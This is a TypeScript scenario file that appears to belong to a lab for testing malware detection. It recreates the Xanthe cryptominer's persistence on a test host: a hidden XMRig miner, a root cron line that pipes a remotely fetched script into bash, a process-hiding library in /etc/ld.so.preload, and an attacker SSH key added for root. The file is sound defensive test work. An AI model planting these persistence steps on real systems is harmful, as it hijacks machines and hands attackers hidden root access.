import type { Scenario } from '../types.js';
import { appendLine, cronLine, installBinary, processArtifact, ROOT_CRONTAB, startProcess, stratum, writeFile } from '../kit.js';

// Modelled on: Cisco Talos, Xanthe (2020), as reported in "Newly Discovered Cryptomining
// Malware Targets Exposed Docker Containers",
// https://www.binarydefense.com/threat_watch/newly-discovered-cryptomining-malware-targets-exposed-docker-containers/,
// and Talos' "Threat Source newsletter (Dec. 3, 2020)",
// https://blog.talosintelligence.com/2020/12/threat-source-newsletter-dec-3-2020.html
// (xanthe.sh downloader, an XMRig variant hidden by libprocesshider.so in /etc/ld.so.preload,
// SSH keys added for root).
const MINER = '/var/tmp/.xm/xmrig';
const LIB = '/usr/local/lib/libprocesshider.so';

export const xanthe: Scenario = {
  name: 'xanthe',
  plan: (ctx) => {
    const argv = [MINER, '-o', stratum(ctx.pool, 3333), '--donate-level', '1'];
    const cron = `*/5 * * * * curl -fsSL ${ctx.http}/files/xanthe.sh | bash`;
    const key = `${ctx.keys.xanthe!.publicKey} root@xanthe`;
    return {
      family: 'xanthe',
      plant: [
        installBinary('xanthe', MINER),
        cronLine(cron),
        `install -m 644 /run/lab/bin/libsystem.so ${LIB}`,
        writeFile('/etc/ld.so.preload', `${LIB}\n`),
        appendLine('/root/.ssh/authorized_keys', key, '600'),
      ],
      start: [startProcess(argv)],
      artifacts: [
        processArtifact(argv, 'xanthe', ctx.sha256('xanthe'), 'miner', `${ctx.pool}:3333`),
        { kind: 'cron-line', path: ROOT_CRONTAB, line: cron },
        { kind: 'preload', path: '/etc/ld.so.preload', line: LIB },
        { kind: 'key', path: '/root/.ssh/authorized_keys', line: key, comment: 'root@xanthe', fingerprint: ctx.keys.xanthe!.fingerprint },
      ],
      expectFindings: true,
      respawnSeconds: null,
      binaries: ['xanthe', 'libsystem.so'],
      sources: [
        { url: 'https://www.binarydefense.com/threat_watch/newly-discovered-cryptomining-malware-targets-exposed-docker-containers/', title: 'Newly Discovered Cryptomining Malware Targets Exposed Docker Containers' },
        { url: 'https://blog.talosintelligence.com/2020/12/threat-source-newsletter-dec-3-2020.html', title: 'Threat Source newsletter (Dec. 3, 2020) — Xanthe (Cisco Talos)' },
      ],
    };
  },
};
